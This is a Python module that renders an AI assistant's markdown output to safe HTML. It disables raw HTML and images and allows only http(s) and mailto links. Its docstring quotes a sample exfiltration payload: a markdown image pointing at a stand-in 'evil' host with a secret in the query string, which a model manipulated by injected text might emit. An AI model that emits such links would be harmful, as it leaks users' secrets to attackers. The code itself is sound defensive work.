"""Safe HTML for assistant markdown.

Model output is untrusted. It is rendered by markdown-it-py with raw HTML disabled (tags come
out as escaped text), and a link survives only if it is http(s) or mailto; any other
destination (`javascript:`, `data:`, relative paths) is left as inert text. Images are not
rendered: a model talked into emitting `![](https://evil/?q=<secret>)` would otherwise make
the visitor's browser fetch that URL on display, so an image comes out as `!` and a plain
link the visitor may choose to follow.
"""

from __future__ import annotations

import re
from collections.abc import Sequence
from typing import Any

from markdown_it import MarkdownIt
from markdown_it.token import Token

SAFE_LINK = re.compile(r"(?:https?|mailto):", re.IGNORECASE)
LINK_REL = "nofollow noopener noreferrer"


def is_safe_link(url: str) -> bool:
    """markdown-it hands over the URL normalised, with entities already decoded."""
    return SAFE_LINK.match(url) is not None


def _link_open(self: Any, tokens: Sequence[Token], idx: int, options: Any, env: Any) -> str:
    tokens[idx].attrSet("rel", LINK_REL)
    return self.renderToken(tokens, idx, options, env)


def _build() -> MarkdownIt:
    md = MarkdownIt("commonmark", {"html": False})
    md.validateLink = is_safe_link  # type: ignore[method-assign]
    md.disable("image")
    md.add_render_rule("link_open", _link_open)
    return md


_MARKDOWN = _build()


def markdown_html(text: str) -> str:
    return _MARKDOWN.render(text)


def message_html(role: str, content: str) -> str | None:
    """Assistant text as safe HTML; a visitor's own text has none (it is shown as plain text)."""
    return markdown_html(content) if role == "assistant" else None
